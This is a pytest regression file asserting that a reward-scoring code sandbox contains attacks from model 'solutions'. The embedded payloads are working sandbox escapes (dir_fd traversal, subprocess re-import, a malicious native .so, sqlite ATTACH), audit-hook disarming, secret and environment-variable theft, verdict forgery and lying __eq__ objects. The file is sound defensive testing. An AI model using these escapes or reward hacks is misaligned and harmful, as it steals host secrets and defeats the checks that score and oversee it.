"""Regression tests: the attacks that beat the in-process sandbox (all scored 1.0 there) now score 0.

Each attack is a model "solution" whose tests can only pass if the attack worked: they demand a secret
only the host has (a planted file, an environment variable of this test process) or a random expected
value that lives outside the sandbox. Every test checks that the reward is 0 with a reason, that the
secret appears nowhere in what the program printed, and that the host files it targets are untouched.
Run on every kernel backend available here, with the audit hook armed and disarmed (the hook is only a
tripwire now; the kernel jail and the verdict outside must hold on their own).
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import shutil
import sqlite3
import subprocess
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from crossroute.domains import sandbox
from crossroute.domains.code import score_code
from crossroute.domains.sandbox import REASONS, SandboxLimits, SandboxResult, run_sandboxed

ENV_SECRET = "CROSSROUTE_ATTACK_SECRET"

# Neuters the audit hook: its closure (reachable from the runner's frame and through gc) is edited so
# that the refusing functions do nothing and the event lists are empty.
DISARM = '''
import gc as _gc, sys as _sys


def _disarm():
    frames, f = [], _sys._getframe()
    while f is not None:
        frames.append(f)
        f = f.f_back
    funcs = [v for fr in frames for v in list(fr.f_locals.values()) if getattr(v, "__closure__", None)]
    funcs += [o for o in _gc.get_objects() if type(o).__name__ == "function" and o.__name__ == "hook"]
    hits = 0
    for fn in funcs:
        for cell in fn.__closure__ or ():
            try:
                v = cell.cell_contents
            except ValueError:
                continue
            if callable(v) and getattr(v, "__name__", "") in ("refuse", "check_read", "check_write"):
                cell.cell_contents = lambda *a, **k: None
                hits += 1
            elif isinstance(v, (tuple, set, frozenset)) and v and all(isinstance(x, str) for x in v):
                cell.cell_contents = type(v)()
                hits += 1
    print("disarmed", hits)


_disarm()
'''

LEAK_TEST = "assert leak() == {token!r}"

DIR_FD = '''
import os


def leak():
    got = ""
    fd = os.open(os.path.dirname(os.__file__), os.O_RDONLY)  # a directory the hook lets it read
    os.makedirs("a/" * 24, exist_ok=True)
    os.chdir("a/" * 24)  # relative to the cwd, "../"*24 stays inside the sandbox dir; relative to fd it is /
    up = "../" * 24
    for path in ({secret!r}, "/proc/{pid}/environ"):
        try:
            got += os.read(os.open(up + path.lstrip("/"), os.O_RDONLY, dir_fd=fd), 1 << 16).decode(errors="replace")
        except OSError as e:
            print("read blocked:", e)
    try:
        os.write(os.open(up + {target!r}.lstrip("/"), os.O_WRONLY | os.O_TRUNC, dir_fd=fd), b"pwned")
    except OSError as e:
        print("write blocked:", e)
    print(got)
    return {token!r} if {token!r} in got else got
'''

POSIXSUBPROCESS = '''
import sys


def leak():
    sys.modules.pop("_posixsubprocess", None)
    import _posixsubprocess  # a fresh module: fork_exec is no longer the hook's stub
    import subprocess
    subprocess._fork_exec = _posixsubprocess.fork_exec
    sys.audit = lambda *a: None  # Popen's own audit event goes nowhere
    out = ""
    for cmd in (["/bin/sh", "-c", "cat {secret} /proc/{pid}/environ; echo pwned > {target}"],
                [sys.executable, "-c", "print(open({secret!r}).read()); print(open('/proc/{pid}/environ').read()); "
                                       "open({target!r}, 'w').write('pwned')"]):
        try:
            r = subprocess.run(cmd, capture_output=True, text=True, timeout=3)
            out += r.stdout
            print("ran", cmd[0], r.returncode, r.stderr[-200:])
        except Exception as e:
            print("blocked:", type(e).__name__, e)
    print(out)
    return {token!r} if {token!r} in out else out
'''

NATIVE_SO = '''
import base64, os, sys

SO = base64.b64decode({so!r})


def leak():
    with open("evil.cfg", "w") as f:
        f.write("{secret}\\n/proc/{pid}/environ\\n{target}\\n")
    with open("evil.so", "wb") as f:
        f.write(SO)
    sys.path.insert(0, os.getcwd())
    try:
        import evil  # noqa: F401  (its constructor runs on dlopen)
    except BaseException as e:
        print("import:", type(e).__name__, e)
    got = open("leak.txt").read() if os.path.exists("leak.txt") else ""
    print(got)
    return {token!r} if {token!r} in got else got
'''

NATIVE_C = r'''
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static void copy(const char *path, int out) {
    char buf[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    ssize_t n = read(fd, buf, sizeof buf);
    if (n > 0) write(out, buf, (size_t)n);
    close(fd);
}

__attribute__((constructor)) static void evil(void) {
    char cfg[4096] = {0};
    int c = open("evil.cfg", O_RDONLY);
    if (c < 0) return;
    ssize_t n = read(c, cfg, sizeof cfg - 1);
    close(c);
    if (n <= 0) return;
    char *secret = strtok(cfg, "\n"), *environ_path = strtok(NULL, "\n"), *target = strtok(NULL, "\n");
    int out = open("leak.txt", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (out < 0) return;
    if (secret) copy(secret, out);
    if (environ_path) copy(environ_path, out);
    close(out);
    if (target) {
        int t = open(target, O_WRONLY | O_TRUNC);
        if (t >= 0) { write(t, "pwned", 5); close(t); }
    }
}

void *PyInit_evil(void) { return 0; }
'''

SQLITE = '''
import sqlite3


def leak():
    got = ""
    try:
        con = sqlite3.connect(":memory:")
        con.execute("ATTACH DATABASE ? AS host", ({db!r},))  # sqlite opens files in C: no audit event
        got = "".join(row[0] for row in con.execute("SELECT v FROM host.s"))
    except Exception as e:
        print("attach blocked:", e)
    try:
        sqlite3.connect({created!r}).execute("CREATE TABLE t (x)")
    except Exception as e:
        print("create blocked:", e)
    print(got)
    return {token!r} if {token!r} in got else got
'''

HOOK_CLOSURE = DISARM + '''
import os


def leak():
    got = ""
    for path in ({secret!r}, "/proc/{pid}/environ"):
        try:
            got += open(path, errors="replace").read()
        except OSError as e:
            print("read blocked:", e)
    try:
        open({target!r}, "w").write("pwned")
    except OSError as e:
        print("write blocked:", e)
    try:
        print(sorted(os.listdir("/")), sorted(os.listdir("/proc"))[:20])
    except OSError as e:
        print("list blocked:", e)
    print(got)
    return {token!r} if {token!r} in got else got
'''

# Looks for the verdict machinery in its own process (frames, long strings such as a nonce, every fd)
# and reports success through all of it, then exits before the real answers are sent.
FORGE = '''
import os, sys


def _forge():
    frames, f = [], sys._getframe()
    while f is not None:
        frames.append(f)
        f = f.f_back
    found = sorted({{v for fr in frames for v in list(fr.f_locals.values()) if isinstance(v, str) and len(v) >= 8}})
    print("found:", found)
    lines = ["result %s ok" % s for s in found] + ['{{"loaded":true}}', '{{"names":{{"f":["callable"]}}}}']
    lines += ['{{"ok":true}}'] * 20 + ['{{"result":"ok","detail":""}}', "result ok"]
    data = ("\\n".join(lines) + "\\n").encode()
    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass
    for fr in frames:
        for name in ("done", "finish", "report", "send", "fail"):
            fn = fr.f_locals.get(name)
            if callable(fn):
                try:
                    fn("ok")
                except BaseException:
                    pass
    sys.stdout.flush()
    os._exit(0)


_forge()


def f(x):
    return x
'''

LIAR = '''
class Liar:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


class Text(str):
    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


def f(x):
    return Text("anything") if x == 0 else Liar() if x == 1 else [Liar()]
'''

# Searches every file the jail shows for anything shaped like the tests' expected value (it does not
# know the value itself), and returns what it finds.
SNOOP = DISARM + '''
import os, re


def f(x):
    shape = re.compile(rb"crsecret-[0-9a-f]{24}")
    hits = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        for name in files:
            path = os.path.join(root, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 16:  # the run's own files are small
                    with open(path, "rb") as fh:
                        hits += [m.decode() for m in shape.findall(fh.read())]
            except OSError:
                pass
    print("hits:", hits)
    return hits[0] if hits else "none"
'''


@dataclass
class Planted:
    """Host state an attack goes for: a secret file, a writable target, a dir to create files in."""

    token: str
    where: Path

    @property
    def secret(self) -> Path:
        return self.where / "secret.txt"

    @property
    def target(self) -> Path:
        return self.where / "target.txt"

    @property
    def db(self) -> Path:
        return self.where / "secret.db"

    def fields(self) -> dict[str, str]:
        return {"token": self.token, "secret": str(self.secret), "target": str(self.target), "db": str(self.db),
                "created": str(self.where / "created.db"), "pid": str(os.getpid())}


@pytest.fixture
def planted(monkeypatch: pytest.MonkeyPatch) -> Iterator[Planted]:
    """A secret in this process's environment and in world-readable files under /tmp (not pytest's
    private tmp_path, so only the jail, not file permissions, keeps the sandbox's uid away)."""
    token = "crsecret-" + secrets.token_hex(12)
    where = Path(tempfile.mkdtemp(prefix="crossroute-attack-", dir="/tmp"))
    where.chmod(0o777)
    p = Planted(token, where)
    p.secret.write_text(token)
    p.target.write_text("original")
    with sqlite3.connect(p.db) as con:
        con.execute("CREATE TABLE s (v TEXT)")
        con.execute("INSERT INTO s VALUES (?)", (token,))
    con.close()
    for f in (p.secret, p.db):
        f.chmod(0o644)
    p.target.chmod(0o666)
    monkeypatch.setenv(ENV_SECRET, token)
    yield p
    shutil.rmtree(where, ignore_errors=True)


def _available() -> list[str]:
    out = [k for k in ("bwrap", "unshare") if not isinstance(sandbox._backend(k), str)]
    if "unshare" in out and os.geteuid() == 0:
        out.append("unshare-userns")  # root keeps its own uid inside a user namespace (as a non-root trainer does)
    return out


BACKENDS = _available() or ["none"]


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> SandboxLimits:
    """SandboxLimits forcing one kernel backend (for the escapes, which the jail alone must stop)."""
    if request.param == "none":
        pytest.fail("no kernel isolation works on this machine: install bubblewrap or enable user namespaces")
    if request.param == "unshare-userns":
        monkeypatch.setattr(sandbox, "_run_ids", lambda kind: None)
    return SandboxLimits(isolation=request.param.split("-")[0])


@pytest.fixture(scope="module")
def evil_so(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A shared object whose constructor tries to steal the planted secrets (base64)."""
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.skip("no C compiler to build the native payload")
    d = tmp_path_factory.mktemp("native")
    (d / "evil.c").write_text(NATIVE_C)
    subprocess.run([cc, "-shared", "-fPIC", "-O1", "-o", str(d / "evil.so"), str(d / "evil.c")], check=True,
                   capture_output=True, timeout=60)
    return base64.b64encode((d / "evil.so").read_bytes()).decode()


def assert_contained(res: SandboxResult, p: Planted) -> None:
    """Reward 0 with a reason; the secret never reached the program's output; host state untouched."""
    assert not res.passed and res.reason in REASONS and res.reason != "ok", res
    assert p.token not in res.stdout + res.stderr, res
    assert p.target.read_text() == "original"
    assert sorted(os.listdir(p.where)) == ["secret.db", "secret.txt", "target.txt"]
    assert os.environ[ENV_SECRET] == p.token


KERNEL_ATTACKS = {"dir_fd": DIR_FD, "posixsubprocess": POSIXSUBPROCESS, "sqlite": SQLITE, "native_so": NATIVE_SO}


def _attack(attack: str, planted: Planted, request: pytest.FixtureRequest) -> tuple[str, str]:
    """(code, tests) of one kernel-level attack on the planted secrets."""
    fields = planted.fields()
    if attack == "native_so":
        fields["so"] = request.getfixturevalue("evil_so")
    return KERNEL_ATTACKS[attack].format(**fields), LEAK_TEST.format(**fields)


@pytest.mark.parametrize("attack", sorted(KERNEL_ATTACKS))
def test_escapes_are_contained_by_the_jail_alone(attack: str, planted: Planted, backend: SandboxLimits,
                                                 request: pytest.FixtureRequest) -> None:
    code, tests = _attack(attack, planted, request)
    res = run_sandboxed(DISARM + code, tests, backend)
    assert_contained(res, planted)
    assert "disarmed" in res.stdout and res.reason == "assertion", res


@pytest.mark.parametrize("attack", sorted(KERNEL_ATTACKS))
def test_the_original_escapes_score_zero(attack: str, planted: Planted, request: pytest.FixtureRequest) -> None:
    code, tests = _attack(attack, planted, request)
    res = run_sandboxed(code, tests)  # as they were found: the hook armed, the default backend
    assert_contained(res, planted)
    assert score_code(code, tests)[0] == 0.0


def test_editing_the_hook_closure_gains_nothing(planted: Planted, backend: SandboxLimits) -> None:
    res = run_sandboxed(HOOK_CLOSURE.format(**planted.fields()), LEAK_TEST.format(**planted.fields()), backend)
    assert_contained(res, planted)
    assert "disarmed" in res.stdout and res.reason == "assertion", res


LOOPED = "def check(candidate):\n    for x in [0, 1]:\n        assert candidate(x) == {token!r}\ncheck(f)\n"


@pytest.mark.parametrize("tests", ["assert False", "assert f(1) == {token!r}", LOOPED],
                         ids=["assert-false", "values", "tester"])
def test_forging_the_verdict_from_inside_fails(tests: str, planted: Planted) -> None:
    res = run_sandboxed(FORGE.format(), tests.format(token=planted.token))
    assert_contained(res, planted)
    assert "found:" in res.stdout and res.reason in ("assertion", "crash"), res


@pytest.mark.parametrize("tests", ["assert f(0) == {token!r}\nassert f(1) == {token!r}\nassert f(2) == [{token!r}]",
                                   LOOPED],
                         ids=["values", "tester"])
def test_objects_with_a_lying_eq_fail(tests: str, planted: Planted) -> None:
    res = run_sandboxed(LIAR, tests.format(token=planted.token))
    assert_contained(res, planted)
    assert res.reason == "not_plain_data", res
    assert score_code(LIAR, tests.format(token=planted.token)) == (0.0, "not_plain_data")


@pytest.mark.parametrize("tests", ["assert f(1) == {token!r}", LOOPED], ids=["values", "tester"])
def test_the_expected_value_is_nowhere_in_the_jail(tests: str, planted: Planted) -> None:
    res = run_sandboxed(SNOOP, tests.format(token=planted.token))
    assert_contained(res, planted)
    assert "hits: []" in res.stdout and res.reason == "assertion", res


JAIL_VIEW = DISARM + '''
import json, os, socket


def writable(p):
    try:
        with open(p, "a"):
            return True
    except OSError:
        return False


def view():
    return json.dumps({
        "uid": os.getuid(), "top": sorted(os.listdir("/")), "ifaces": [n for _, n in socket.if_nameindex()],
        "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()) if os.path.isdir("/proc") else [],
        "site": os.listdir(os.path.join(os.path.dirname(os.__file__), "site-packages"))
                if os.path.isdir(os.path.join(os.path.dirname(os.__file__), "site-packages")) else [],
        "writable": [p for p in ("/", "/sbx/code.py", "/dev/x", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
                                 os.__file__, "/work/x") if writable(p)],
        "env": sorted(os.environ), "cwd": os.getcwd()})
'''


def test_the_jail_shows_only_the_interpreter_and_its_own_files(backend: SandboxLimits) -> None:
    res = run_sandboxed(JAIL_VIEW + "\nprint(view())\n", "pass", backend)
    assert res.passed, res
    view = json.loads(res.stdout.splitlines()[-1])
    layout = sandbox._layout()
    assert not isinstance(layout, str)
    shown = {p.split("/")[1] for p in [*layout.ro, *dict(layout.symlinks)]} | {"dev", "proc", "sbx", "work"}
    assert set(view["top"]) <= shown and "tmp" not in view["top"], view
    assert view["ifaces"] == ["lo"] and view["site"] == [] and view["cwd"] == "/work"
    assert view["writable"] == ["/work/x"], view
    assert view["pids"] and max(view["pids"]) < 50  # its own PID namespace: the host's pids are not there
    assert ENV_SECRET not in view["env"]
